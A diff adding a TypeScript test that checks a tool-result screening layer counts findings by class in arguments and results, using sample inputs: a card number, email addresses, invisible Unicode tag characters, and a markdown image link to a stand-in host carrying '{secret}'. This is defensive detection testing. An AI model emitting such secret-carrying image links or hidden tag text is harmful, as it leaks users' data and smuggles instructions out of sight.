@@ -70,6 +70,32 @@ test("a result that policy withholds is recorded as denied, with counts and no v
   assert.doesNotMatch(JSON.stringify([ending, delivery.detail]), /4111/);
 });
 
+test("the entry counts what was found in arguments and result, each class apart and none that is empty", () => {
+  for (const [text, expected] of [
+    [`card ${CARD}`, { personal_data: 1 }],
+    ["write to anna@mail.example or bob@mail.example", { contacts: 2 }],
+    ["see \u{e0049}\u{e0047} here", { hidden_text: 1 }],
+    ["![x](https://collect.example/p?d={secret})", { carrying_links: 1 }],
+    ["fine", {}],
+  ] as const) {
+    const { delivery } = scene({ labels: { personal_data: "pii" }, args: { q: text } });
+    delivery.noteArguments();
+    delivery.endingOf(resultOf(text), permitFor(target), notAgain);
+    const counts = Object.entries(delivery.detail).filter(
+      ([name]) => name !== "delivery_rule" && !name.endsWith("injection_score"),
+    );
+    assert.deepEqual(
+      Object.fromEntries(counts),
+      Object.fromEntries(
+        Object.entries(expected).flatMap(([name, count]) => [
+          [`argument_findings_${name}`, count],
+          [`result_findings_${name}`, count],
+        ]),
+      ),
+    );
+  }
+});
+
 test("a harmless result is delivered as it is", () => {
   const { delivery } = scene();
   const ending = resultOf("fine");
